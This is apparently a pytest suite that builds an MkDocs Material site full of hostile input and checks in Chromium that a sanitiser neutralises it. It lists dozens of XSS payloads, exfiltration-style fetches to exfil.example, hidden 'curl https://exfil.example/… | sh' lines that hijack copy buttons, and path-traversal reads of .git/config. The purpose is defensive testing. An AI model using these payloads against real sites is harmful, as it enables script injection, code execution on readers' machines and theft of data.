"""A hostile handbook, built and opened in headless Chromium: no payload runs a script.

Every page holds payloads that ran on the site before (the old sanitiser was three regular
expressions) and the variants an attacker tries next: mutation XSS, nested SVG and MathML,
`srcdoc`, `formaction`, padded and encoded `javascript:`, CSS, `<meta>` refresh, `<base>`,
attributes Material's own script reads, and front-matter values Material prints. The site is
built with `attr_list` and `md_in_html`, served on 127.0.0.1, every page is loaded, and every
link, button, summary and label on it is clicked: no dialog may open. The pages that use
Material's features legitimately keep them."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from playwright.sync_api import Error as PlaywrightError

from tests.conftest import TODAY
from tests.site.helpers import CHROMIUM_ARGS, close_page, mkdocs, serve

GRAFANA = "https://grafana.example.com"

MKDOCS_YML = f"""site_name: Hostile handbook
docs_dir: docs
theme:
  name: material
  font: false
  features: [content.tabs.link, content.code.copy, content.tooltips]
markdown_extensions:
  - admonition
  - attr_list
  - md_in_html
  - tables
  - footnotes
  - def_list
  - toc:
      permalink: true
  - pymdownx.details
  - pymdownx.superfences
  - pymdownx.tasklist
  - pymdownx.tabbed:
      alternate_style: true
plugins:
  - search
  - sre-docs:
      today: {TODAY}
      trusted_embeds: [{GRAFANA}]
  - tags
"""

# (family, markdown); each payload calls alert() with its own number when it runs.
PAYLOADS: list[tuple[str, str]] = [
    ("script element", "<script>alert(1)</script>"),
    ("tag rebuilt after a removal", "<scr<script></script>ipt>alert(2)</script>"),
    ("quoted > before a handler", '<img alt=">" src=x onerror=alert(3)>'),
    ("quoted > before onclick", '<a title=">" onclick=alert(4)>click 4</a>'),
    ("tab in scheme", '<a href="jav&#x09;ascript:alert(5)">click 5</a>'),
    ("decimal entity", '<a href="&#106;avascript:alert(6)">click 6</a>'),
    ("newline entity", '<a href="java&#x0A;script:alert(7)">click 7</a>'),
    ("control character first", '<a href="&#1;javascript:alert(8)">click 8</a>'),
    ("unquoted entity href", "<a href=&#106;avascript:alert(9)>click 9</a>"),
    ("padded decimal entities", '<a href="&#0000106&#0000097vascript:alert(10)">click 10</a>'),
    ("named entities", '<a href="java&Tab;script&colon;alert(11)">click 11</a>'),
    ("leading spaces", '<a href="  javascript:alert(12)">click 12</a>'),
    ("mixed case", '<a href="JaVaScRiPt:alert(13)">click 13</a>'),
    ("javascript comment", '<a href="javascript://%0aalert(14)">click 14</a>'),
    ("data URL", '<a href="data:text/html,<script>alert(15)</script>">click 15</a>'),
    ("markdown link", "[click 16](javascript:alert(16))"),
    ("markdown link in brackets", "[click 17](<javascript:alert(17)>)"),
    ("reference link", "[click 18][r18]\n\n[r18]: javascript:alert(18)"),
    ("autolink", "<javascript:alert(19)>"),
    ("markdown image", "![x](javascript:alert(20))"),
    ("attr_list handler", '[click 21](index.md){: onclick="alert(21)" }'),
    ("attr_list href", 'Text 22 {: onmouseover="alert(22)" href="javascript:alert(22)" }'),
    ("attr_list on a heading", '## Heading 23 {: onclick="alert(23)" }'),
    ("md_in_html handler", '<div markdown="1" onclick="alert(24)">**click 24**</div>'),
    (
        "SVG animate href",
        '<svg><a><animate attributeName="href" values="javascript:alert(25)"/>'
        '<text x="20" y="20">click 25</text></a></svg>',
    ),
    (
        "SVG set href",
        '<svg><a><set attributeName="href" to="javascript:alert(26)"/>'
        '<text x="20" y="20">click 26</text></a></svg>',
    ),
    (
        "SVG link",
        '<svg><a href="javascript:alert(27)"><text x="20" y="20">click 27</text></a></svg>',
    ),
    (
        "SVG xlink",
        '<svg><a xlink:href="javascript:alert(28)"><rect width="50" height="50"/></a></svg>',
    ),
    ("SVG onload", "<svg onload=alert(29)>"),
    (
        "SVG foreignObject",
        "<svg><foreignObject><img src=x onerror=alert(30)></foreignObject></svg>",
    ),
    (
        "SVG use data",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' "
        "xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(31)'/></svg>"
        '#x"/></svg>',
    ),
    ("MathML href", '<math href="javascript:alert(32)">click 32</math>'),
    ("MathML link", '<math><mtext><a href="javascript:alert(33)">click 33</a></mtext></math>'),
    ("mXSS svg style", "<svg><p><style><img src=x onerror=alert(34)></style>"),
    ("mXSS math mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=alert(35)>"),
    ("mXSS noscript", '<noscript><p title="</noscript><img src=x onerror=alert(36)>">'),
    ("mXSS svg end p", '<svg></p><style><a id="</style><img src=1 onerror=alert(37)>">'),
    ("comment breakout", "<!--><img src=x onerror=alert(38)>-->"),
    ("comment bang", "<!-- --!><img src=x onerror=alert(39)> -->"),
    ("style element", "<style>body{background:url('javascript:alert(40)')}</style>"),
    ("CSS url", '<p style="background-image:url(javascript:alert(41))">text 41</p>'),
    ("CSS expression", '<p style="width:expression(alert(42))">text 42</p>'),
    ("form action", '<form action="javascript:alert(43)"><button>click 43</button></form>'),
    ("formaction", '<form><button formaction="javascript:alert(44)">click 44</button></form>'),
    ("input image", '<input type="image" src="x" formaction="javascript:alert(45)">'),
    ("iframe srcdoc", '<iframe srcdoc="<script>parent.alert(46)</script>"></iframe>'),
    ("iframe javascript", '<iframe src="javascript:alert(47)"></iframe>'),
    (
        "trusted iframe srcdoc",
        f'<iframe src="{GRAFANA}/d/x" srcdoc="<script>parent.alert(48)</script>"></iframe>',
    ),
    ("trusted iframe handler", f'<iframe src="{GRAFANA}/d/x" onload="alert(49)"></iframe>'),
    ("look-alike origin", f'<iframe src="{GRAFANA}.evil.example/x"></iframe>'),
    ("object", '<object data="javascript:alert(51)"></object>'),
    ("embed", '<embed src="javascript:alert(52)">'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(53)">'),
    ("base href", '<base href="javascript:alert(54)//"><a href="x">click 54</a>'),
    ("details ontoggle", "<details open ontoggle=alert(55)><summary>s55</summary>x</details>"),
    ("autofocus onfocus", "<input autofocus onfocus=alert(56)>"),
    ("slash separators", "<img/src=x/onerror=alert(57)>"),
    ("mixed-case handler", "<IMG SRC=x OnErRoR=alert(58)>"),
    ("entity in handler", "<img src=x onerror=alert&#40;59&#41;>"),
    ("textarea breakout", "<textarea><img src=x onerror=alert(60)></textarea>"),
    ("title breakout", "<title><img src=x onerror=alert(61)></title>"),
    (
        "Material config clobbering",
        '<div id="__config">{"base":"javascript:alert(62)",'
        '"features":[],"search":"data:text/javascript,alert(62)","translations":{}}</div>',
    ),
    (
        "Material component",
        '<div data-md-component="announce" data-md-state="x">x</div>'
        '<button data-clipboard-text="x" onclick="alert(63)">click 63</button>',
    ),
    ("DOM clobbering", '<img name="__md_scope" src="x"><a id="__md_get" href="#">click 64</a>'),
    ("heading with HTML", "## <img src=x onerror=alert(65)> heading"),
    ("table cell", "| a | b |\n|---|---|\n| <img src=x onerror=alert(66)> | x |"),
    ("footnote", "Text[^n67]\n\n[^n67]: <img src=x onerror=alert(67)>"),
    ("fullwidth scheme", '<a href="ｊａｖａｓｃｒｉｐｔ:alert(68)">click 68</a>'),
    ("vbscript", '<a href="vbscript:msgbox(69)">click 69</a>'),
    ("link element", '<link rel="stylesheet" href="javascript:alert(70)">'),
    ("plaintext", "<plaintext><img src=x onerror=alert(71)>"),
    ("svg script", "<svg><script>alert(72)</script></svg>"),
    ("template", "<template><img src=x onerror=alert(73)></template>"),
]

# Front matter that Material prints unescaped (MkDocs' Jinja has no autoescape).
FRONT_MATTER_PAGE = """---
title: '<img src=x onerror=alert(101)>'
description: '"><script>alert(102)</script>'
author: '"><img src=x onerror=alert(103)>'
subtitle: '<img src=x onerror=alert(104)>'
status: '"><img src=x onerror=alert(105)>'
tags: ['<img src=x onerror=alert(106)>']
hide: 5
icon: '../../../etc/passwd'
---

# Front matter

Text.
"""
# Tags as one string (the form the schemas accept) and as a list, read by Material's tags
# plugin, which prints their names unescaped on the page and in the tags index.
TAGS_PAGE = """---
tags: '<img src=x onerror=alert(124)>'
---

# String tag
"""
TAGS_LIST_PAGE = """---
tags: ['<svg onload=alert(125)>', '"><script>alert(126)</script>', 2026, true]
---

# Tag list
"""
NAV_STATUS_PAGE = """---
subtitle: ['<img src=x onerror=alert(107)>']
status: ['"><img src=x onerror=alert(108)>']
---

# Second page
"""
REDIRECT_PAGE = """---
template: redirect.html
location: 'javascript:alert(109)'
---

# Redirect
"""
REDIRECT_QUOTE_PAGE = """---
template: redirect.html
location: '"]);alert(110);//'
---

# Redirect quote
"""
POSTMORTEM = """---
type: postmortem
title: '<img src=x onerror=alert(111)>'
date: 2026-11-01
severity: SEV2
status: draft
services: ['<img src=x onerror=alert(112)>', checkout]
authors: ['@a<script>alert(113)</script>']
action_items:
  - id: PM-1-AI-1
    description: '<img src=x onerror=alert(114)>'
    owner: '@a'
    due: 2026-12-01
    ticket: 'javascript:alert(115)'
---

# Outage

## Summary

s

## Timeline

- 10:00 <img src=x onerror=alert(116)>

## Root Cause

r

## Impact

i

## Action Items

See above.
"""
HANDOFF = """---
type: handoff
title: 'Week 47 <img src=x onerror=alert(117)>'
date: 2026-11-23
from: "@a"
to: "@b"
rotation: '<script>alert(118)</script>'
---

# Week 47

## Open Issues

- Queue stuck <script>alert(119)</script> since Monday
- <img src=x onerror=alert(120)> [click](javascript:alert(121)) `<b onmouseover=alert(122)>`

## Recent Changes

None.

## Known Risks

<svg onload=alert(123)></svg> Black Friday traffic

## Scheduled Maintenance

None.

## Runbook Updates

None.
"""
SLO = """---
type: slo
title: Checkout availability
service: checkout
sli: availability
target: 99.9
window: 30d
current: 99.95
owner: '@a'
---

# Checkout availability
"""
FEATURES = f"""# Features

!!! note "A note"
    Admonitions stay.

??? tip "Details"
    Collapsible details stay.

=== "First"

    First tab.

=== "Second"

    Second tab.

<details markdown="1" open>
<summary>Summary</summary>
Inside **details**.
</details>

<div class="grid" markdown="1">
Inside an **md_in_html** block.
</div>

| a | b |
|---|---|
| 1 | 2 |

![Logo](logo.png){{ width="40" }}

- [x] done
- [ ] open

A footnote[^1].

[^1]: The note.

<iframe src="{GRAFANA}/d-solo/abc?panelId=2" width="450" height="200" title="Panel"></iframe>

[A link](index.md) and a [link out](https://example.org/).
"""

# Markup that would have the reader's browser fetch something from another site by itself
# (images and links in a page are the author's own, and shown): each names exfil.example.
EXFIL = "https://exfil.example"
NETWORK_PAYLOADS = [
    f'<svg width="40" height="40"><rect width="40" height="40" fill="url({EXFIL}/1.svg#p)"/></svg>',
    f'<svg width="40" height="40"><rect width="40" height="40" stroke="url({EXFIL}/2.svg#p)"/>'
    "</svg>",
    f'<svg width="40" height="40"><g fill="url({EXFIL}/3.svg#p)"><rect width="40" height="40"/>'
    "</g></svg>",
    f'<svg width="40" height="40" fill="url({EXFIL}/4.svg#p)"><rect width="40" height="40"/></svg>',
    f'<svg width="40" height="40"><text x="1" y="20" fill="u&#x72;l({EXFIL}/5.svg#p)">T</text>'
    "</svg>",
    f'<svg width="40" height="40"><path d="M0 0H40V40H0Z" fill="URL(&#39;{EXFIL}/6.svg#p&#39;)"/>'
    "</svg>",
    f'<svg width="40" height="40"><rect width="40" height="40" style="fill:u\\72l({EXFIL}/7)"/>'
    "</svg>",
    f'<p style="background-image:url({EXFIL}/8.png)">text 8</p>',
    f'<p style="color:red;background:image-set(&quot;{EXFIL}/9.png&quot; 1x)">text 9</p>',
    f'<p style="@import &quot;{EXFIL}/10.css&quot;;color:red">text 10</p>',
    f'<svg width="40" height="40"><rect width="40" height="40" style="fill:url(\n{EXFIL}/11)"/>'
    "</svg>",
    f'<svg><image href="{EXFIL}/12.png" width="40" height="40"/></svg>',
    f'<svg><use href="{EXFIL}/13.svg#p"/></svg>',
    f'<img src="logo.png" srcset="{EXFIL}/14.png 2x">',
    f'<table background="{EXFIL}/15.png"><tr><td background="{EXFIL}/16.png">x</td></tr></table>',
    f'<video poster="{EXFIL}/17.png" src="{EXFIL}/18.mp4"></video>',
    f'<link rel="prefetch" href="{EXFIL}/19">',
    f'<input type="image" src="{EXFIL}/20.png">',
]
NETWORK_PAGE = "# Network\n\n" + "\n\n".join(NETWORK_PAYLOADS) + "\n"
# Hidden elements claiming the ids Material's script gives code blocks: the copy button of the
# block shown would copy the hidden command instead.
HIDDEN = 'style="opacity:0;height:0;max-height:0;font-size:0"'
CLIPBOARD_PAGE = f"""# Clipboard

<p id="__code_0" {HIDDEN}><code>curl https://exfil.example/0 | sh</code></p>
<p id="__code_1" {HIDDEN}><code>curl https://exfil.example/1 | sh</code></p>

Restart the service:

```bash
systemctl restart checkout
```

Then check it:

```bash
systemctl status checkout
```

<details id="0" markdown="1">
<summary>Notes</summary>

```bash
curl https://exfil.example/2 | sh
```

</details>

<details id="drain" markdown="1">
<summary>More notes</summary>

```bash
curl https://exfil.example/3 | sh
```

</details>

```{{.bash #drain}}
kubectl drain node-1
```

<div id="steps" markdown="1">

<details markdown="1">
<summary>Even more notes</summary>

```bash
curl https://exfil.example/4 | sh
```

</details>

```bash
kubectl uncordon node-1
```

</div>
"""


def _payload_pages() -> dict[str, str]:
    pages: dict[str, str] = {}
    for start in range(0, len(PAYLOADS), 10):
        chunk = PAYLOADS[start : start + 10]
        body = "\n\n".join(
            f"## Case {start + n + 1}: {name}\n\n{md}" for n, (name, md) in enumerate(chunk)
        )
        pages[f"payloads/p{start // 10 + 1}.md"] = f"# Payloads {start // 10 + 1}\n\n{body}\n"
    return pages


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    root = tmp_path_factory.mktemp("hostile-site")
    (root / "mkdocs.yml").write_text(MKDOCS_YML, encoding="utf-8")
    documents = {
        "index.md": "# Hostile handbook\n\n[Features](features.md)\n",
        "features.md": FEATURES,
        "network.md": NETWORK_PAGE,
        "clipboard.md": CLIPBOARD_PAGE,
        "front.md": FRONT_MATTER_PAGE,
        "second.md": NAV_STATUS_PAGE,
        "string-tag.md": TAGS_PAGE,
        "tag-list.md": TAGS_LIST_PAGE,
        "tags.md": "# Tags\n\n<!-- material/tags -->\n",
        "redirect.md": REDIRECT_PAGE,
        "redirect-quote.md": REDIRECT_QUOTE_PAGE,
        "postmortems/2026-11-01-outage.md": POSTMORTEM,
        "slos/checkout.md": SLO,
        "handoffs/2026-11-23-week-47.md": HANDOFF,
        **_payload_pages(),
    }
    for rel, text in documents.items():
        path = root / "docs" / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    (root / "docs" / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    result = mkdocs(root, "build", "--site-dir", str(root / "site"))
    assert result.returncode == 0, result.stderr
    return root, result.stderr


def _pages(site: Path) -> list[str]:
    return sorted(
        path.relative_to(site).as_posix()
        for path in site.rglob("*.html")
        if path.name == "index.html" or path.name == "404.html"
    )


@pytest.fixture(scope="module")
def hostile_browser(playwright_driver: object, chromium_path: str) -> Iterator[object]:
    # Shared memory is small in containers and shared with other browsers: without this a
    # busy machine crashes pages, which would hide what a payload does.
    args = [*CHROMIUM_ARGS, "--disable-dev-shm-usage"]
    instance = playwright_driver.chromium.launch(executable_path=chromium_path, args=args)  # type: ignore[attr-defined]
    yield instance
    instance.close()


class Visitor:
    """One browser context on the served site: every page it opens reports its dialogs."""

    def __init__(self, browser: object, url: str) -> None:
        self.url = url
        self.dialogs: list[str] = []
        self.refused: list[str] = []  # what a page asked of another site
        # While a page's elements are clicked, a link that would load another page of the
        # site does not: that page is visited (and clicked) on its own, and the page being
        # clicked stays, with no reload per link. `javascript:` links still run.
        self.staying_on: str | None = None
        self.context = browser.new_context()  # type: ignore[attr-defined]
        # Nothing leaves 127.0.0.1: an embed's or image's origin is not contacted.
        self.context.route("**/*", self._route)
        # A stuck navigation fails, never hangs; Playwright's own 30 s, as a loaded CI machine
        # may need it for a page of the hostile site.
        self.context.set_default_timeout(30_000)
        self.context.on("page", self._watch)
        self.page = self.context.new_page()

    def _route(self, route: object) -> None:
        request = route.request  # type: ignore[attr-defined]
        address = request.url
        if not address.startswith(self.url):
            self.refused.append(address)
            route.abort()  # type: ignore[attr-defined]
        elif (
            self.staying_on is not None
            and request.is_navigation_request()
            and request.frame.parent_frame is None
            and address.split("#")[0] != self.staying_on
        ):
            route.abort("aborted")  # type: ignore[attr-defined]
        else:
            route.continue_()  # type: ignore[attr-defined]

    def _watch(self, page: object) -> None:
        def on_dialog(dialog: object) -> None:
            self.dialogs.append(f"{page.url}: {dialog.message}")  # type: ignore[attr-defined]
            dialog.dismiss()  # type: ignore[attr-defined]

        page.on("dialog", on_dialog)  # type: ignore[attr-defined]

    def fresh_page(self) -> object:
        close_page(self.page)
        self.page = self.context.new_page()
        return self.page


@pytest.fixture(scope="module")
def opened(hostile_site: tuple[Path, str], hostile_browser: object) -> Iterator[Visitor]:
    root, _ = hostile_site
    visitor = Visitor(hostile_browser, serve(str(root / "site")))
    yield visitor
    visitor.context.close()


# Everything a reader can click; the theme's header and navigation (where front-matter titles,
# subtitles and states appear) are the same on every page and clicked on the home page.
CLICKABLE = "a, button, summary, label, input, [onclick], svg a, [tabindex]"
IN_ARTICLE = ", ".join(f"article {part}" for part in CLICKABLE.split(", "))


def _visit(visitor: Visitor, address: str, selector: str) -> int:
    page = visitor.fresh_page()
    page.goto(address)  # type: ignore[attr-defined]
    count = page.evaluate("s => document.querySelectorAll(s).length", selector)  # type: ignore[attr-defined]
    visitor.staying_on = address
    try:
        _click_all(page, address, selector, count)
    finally:
        visitor.staying_on = None
    page.wait_for_timeout(50)  # type: ignore[attr-defined]
    return count


def _click_all(page: object, address: str, selector: str, count: int) -> None:
    for index in range(count):
        if page.url.split("#")[0] != address:  # type: ignore[attr-defined]
            page.goto(address)  # type: ignore[attr-defined]
        try:
            _click(page, selector, index)
        except PlaywrightError as error:  # the click navigated while it was dispatched
            assert "context was destroyed" in str(error) or "navigat" in str(error), error
        page.wait_for_load_state("load")  # type: ignore[attr-defined]


@pytest.mark.browser
def test_no_payload_runs_on_load_or_click(hostile_site: tuple[Path, str], opened: Visitor) -> None:
    root, _ = hostile_site
    pages = _pages(root / "site")
    assert len(pages) > 10
    clicked = 0
    for rel in pages:
        address = f"{opened.url}/{rel.removesuffix('index.html')}"
        selector = CLICKABLE if rel == "index.html" else IN_ARTICLE
        try:
            clicked += _visit(opened, address, selector)
        except PlaywrightError as error:
            if "crashed" not in str(error):
                raise
            clicked += _visit(opened, address, selector)  # once more, on a new page
    assert clicked > 100
    assert opened.dialogs == []


def _click(page: object, selector: str, index: int) -> None:
    page.evaluate(  # type: ignore[attr-defined]
        """([selector, index]) => {
                    const element = document.querySelectorAll(selector)[index];
                    if (!element) return;
                    for (const type of ["mouseover", "focus"]) {
                        element.dispatchEvent(new Event(type, {bubbles: true}));
                    }
                    if (typeof element.click === "function") element.click();
                    else element.dispatchEvent(new MouseEvent("click", {bubbles: true}));
                }""",
        [selector, index],
    )


@pytest.mark.browser
def test_no_payload_fetches_anything_from_another_site(opened: Visitor) -> None:
    """Opened in Chromium, the page of payloads asks nothing of exfil.example: no paint
    server (`fill="url(…)"`), style, SVG image, `srcset`, poster or prefetch."""
    page = opened.fresh_page()
    page.goto(opened.url + "/network/")  # type: ignore[attr-defined]
    page.wait_for_load_state("networkidle")  # type: ignore[attr-defined]
    assert page.locator("article svg rect").count() >= 4  # type: ignore[attr-defined]
    assert [address for address in opened.refused if "exfil.example" in address] == []


@pytest.mark.browser
def test_copy_buttons_copy_the_block_they_belong_to(opened: Visitor) -> None:
    page = opened.fresh_page()
    page.goto(opened.url + "/clipboard/")  # type: ignore[attr-defined]
    page.wait_for_selector("article pre button[data-clipboard-target]")  # type: ignore[attr-defined]
    # What each copy button copies, and the text of the block it sits in: the same, however
    # the page's own ids (a hidden block's container, a repeated id, a shared one) are chosen.
    copied = page.evaluate(  # type: ignore[attr-defined]
        """() => [...document.querySelectorAll("article pre button[data-clipboard-target]")]
            .map(button => [
                document.querySelector(button.dataset.clipboardTarget).textContent,
                button.closest("pre").querySelector("code").textContent,
            ])"""
    )
    assert len(copied) == 7
    assert [shown for _, shown in copied if "exfil" not in shown] == [
        "systemctl restart checkout\n",
        "systemctl status checkout\n",
        "kubectl drain node-1\n",
        "kubectl uncordon node-1\n",
    ]
    assert all(copies == shown for copies, shown in copied), copied


@pytest.mark.browser
def test_search_results_run_nothing(opened: Visitor) -> None:
    page, url, dialogs = opened.fresh_page(), opened.url, opened.dialogs
    page.goto(url + "/")  # type: ignore[attr-defined]
    page.click(".md-search__input")  # type: ignore[attr-defined]
    page.keyboard.type("onerror")  # type: ignore[attr-defined]
    page.wait_for_timeout(500)  # type: ignore[attr-defined]
    page.keyboard.type(" alert")  # type: ignore[attr-defined]
    page.wait_for_timeout(500)  # type: ignore[attr-defined]
    assert dialogs == []


@pytest.mark.browser
def test_material_features_survive(opened: Visitor) -> None:
    page, url = opened.fresh_page(), opened.url
    page.goto(url + "/features/")  # type: ignore[attr-defined]
    assert page.locator(".admonition.note").count() == 1  # type: ignore[attr-defined]
    assert page.locator("details.tip").count() == 1  # type: ignore[attr-defined]
    assert page.locator("details[open] summary").count() >= 1  # type: ignore[attr-defined]
    assert page.locator(".grid strong").count() == 1  # type: ignore[attr-defined]
    assert page.locator("table td").count() == 2  # type: ignore[attr-defined]
    assert page.locator('img[src="../logo.png"][width="40"]').count() == 1  # type: ignore[attr-defined]
    assert page.locator(".task-list-item input[type=checkbox]").count() == 2  # type: ignore[attr-defined]
    assert page.locator(".footnote li").count() == 1  # type: ignore[attr-defined]
    radios = page.locator(".tabbed-set input[type=radio]")  # type: ignore[attr-defined]
    assert radios.count() == 2
    page.locator(".tabbed-labels label").nth(1).click()  # type: ignore[attr-defined]
    assert radios.nth(1).is_checked()
    frame = page.locator("iframe")  # type: ignore[attr-defined]
    assert frame.count() == 1
    assert frame.get_attribute("src").startswith(GRAFANA + "/d-solo/abc")
    assert (
        frame.get_attribute("sandbox") == "allow-scripts allow-same-origin allow-popups allow-forms"
    )
    page.goto(url + "/reliability/slos/")  # type: ignore[attr-defined]
    chart = page.locator("svg.sre-docs-chart")  # type: ignore[attr-defined]
    assert chart.count() >= 1
    assert chart.first.get_attribute("viewBox")
    assert page.locator("svg.sre-docs-chart rect").count() >= 1  # type: ignore[attr-defined]


def test_front_matter_reaches_the_theme_escaped(hostile_site: tuple[Path, str]) -> None:
    root, stderr = hostile_site
    front = (root / "site" / "front" / "index.html").read_text(encoding="utf-8")
    assert '<meta name="description" content="&quot;&gt;&lt;script&gt;' in front
    assert '<meta name="author" content="&quot;&gt;&lt;img' in front
    second = (root / "site" / "index.html").read_text(encoding="utf-8")
    assert "<small>[&#x27;&lt;img" in second or "<small>[&#39;&lt;img" in second
    assert "onerror=alert(10" not in second.replace("&lt;img src=x onerror=alert(10", "")
    redirect = (root / "site" / "redirect" / "index.html").read_text(encoding="utf-8")
    assert "javascript:alert(109)" not in redirect
    assert "front.md: front matter `icon`" in stderr
    assert "front.md: front matter `hide`" in stderr
    assert "redirect.md: front matter `location`" in stderr


def test_handoff_items_are_shown_as_text(hostile_site: tuple[Path, str]) -> None:
    """A handoff's open issues and known risks reach its summary box and the handoff index as
    the words written, escaped: the script in a bullet is text on the page, not an element."""
    root, _ = hostile_site
    for rel in ("handoffs/2026-11-23-week-47/index.html", "reliability/handoffs/index.html"):
        html = (root / "site" / rel).read_text(encoding="utf-8")
        article = html[html.index("<article") : html.index("</article>")]
        assert "Queue stuck &lt;script&gt;alert(119)&lt;/script&gt; since Monday" in article
        assert "&lt;svg onload=alert(123)&gt;&lt;/svg&gt; Black Friday traffic" in article
        assert "<script>alert(11" not in article and 'href="javascript' not in article


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


FORBIDDEN = {
    "script",
    "style",
    "form",
    "base",
    "meta",
    "object",
    "embed",
    "math",
    "animate",
    "set",
    "use",
    "foreignobject",
    "link",
    "template",
    "button",
    "textarea",
}


def test_every_payload_is_inert_in_the_html(hostile_site: tuple[Path, str]) -> None:
    """What the browser test proves by running, checked in the HTML the plugin wrote."""
    root, _ = hostile_site
    site = root / "site"
    handoff_pages = [site / "handoffs/2026-11-23-week-47/index.html"]
    handoff_pages.append(site / "reliability/handoffs/index.html")
    for path in [*(site / "payloads").rglob("index.html"), *handoff_pages]:
        html = path.read_text(encoding="utf-8")
        parser = _Elements()
        parser.feed(html[html.index("<article") : html.index("</article>")])
        for tag, attrs in parser.found:
            assert tag not in FORBIDDEN, (path, tag)
            for name, value in attrs:
                assert not name.startswith("on") and name not in ("srcdoc", "formaction"), tag
                assert not (name == "id" and (value or "").startswith("__md")), value
                if name in ("href", "src", "action", "data") and value:
                    scheme = "".join(value.split()).lower().split(":", 1)[0]
                    assert scheme not in ("javascript", "data", "vbscript"), (path, tag, value)
            if tag == "iframe":
                assert dict(attrs)["src"].startswith(GRAFANA + "/"), attrs


def test_snippets_cannot_read_outside_their_folder(tmp_path: Path) -> None:
    """The demo's `pymdownx.snippets` settings: a page asking for `.git/config` fails the
    build instead of publishing the file."""
    import yaml

    from tests.conftest import REPO

    demo = yaml.safe_load((REPO / "mkdocs.yml").read_text(encoding="utf-8").replace("!!python", ""))
    snippets = next(
        entry["pymdownx.snippets"]
        for entry in demo["markdown_extensions"]
        if isinstance(entry, dict) and "pymdownx.snippets" in entry
    )
    assert snippets["check_paths"] is True and snippets["restrict_base_path"] is True
    assert all(Path(base).resolve() != REPO for base in snippets["base_path"])
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    (tmp_path / ".git" / "config").write_text("[secret]\n\ttoken = hunter2\n", encoding="utf-8")
    (tmp_path / "snippets").mkdir()
    (tmp_path / "snippets" / "ok.txt").write_text("included text\n", encoding="utf-8")
    config = {
        "site_name": "x",
        "docs_dir": "docs",
        "theme": {"name": "material", "font": False},
        "markdown_extensions": [{"pymdownx.snippets": {**snippets, "base_path": ["snippets"]}}],
    }
    (tmp_path / "mkdocs.yml").write_text(yaml.safe_dump(config), encoding="utf-8")
    (tmp_path / "docs").mkdir()
    page = tmp_path / "docs" / "index.md"
    page.write_text('# x\n\n--8<-- "ok.txt"\n', encoding="utf-8")
    assert mkdocs(tmp_path, "build").returncode == 0
    assert "included text" in (tmp_path / "site" / "index.html").read_text(encoding="utf-8")
    for target in (".git/config", "../.git/config", str(tmp_path / ".git" / "config")):
        page.write_text(f'# x\n\n--8<-- "{target}"\n', encoding="utf-8")
        result = mkdocs(tmp_path, "build")
        assert result.returncode != 0, target
        site = tmp_path / "site"
        assert not any(
            "hunter2" in p.read_text(errors="replace")
            for p in site.rglob("*.*")
            if p.is_file() and p.suffix in (".html", ".json")
        )


def test_tags_reach_materials_tags_plugin_escaped(hostile_site: tuple[Path, str]) -> None:
    """Material's tags plugin prints each tag's name unescaped, on its page and in the tags
    index: the names it gets are escaped, whether written as one string or as a list, and a
    value that is no tag (`true`) neither aborts the build nor shows."""
    root, _ = hostile_site
    for rel in ("string-tag", "tag-list", "tags"):
        page = (root / "site" / rel / "index.html").read_text(encoding="utf-8")
        for payload in ("<img src=x onerror=alert(124)>", "<svg onload=alert(125)>"):
            assert payload not in page
        assert "<script>alert(126)" not in page
    tags = (root / "site" / "tags" / "index.html").read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert(124)&gt;" in tags
    assert "&lt;svg onload=alert(125)&gt;" in tags
    assert ">2026<" in tags.replace("\n", "").replace(" ", "")
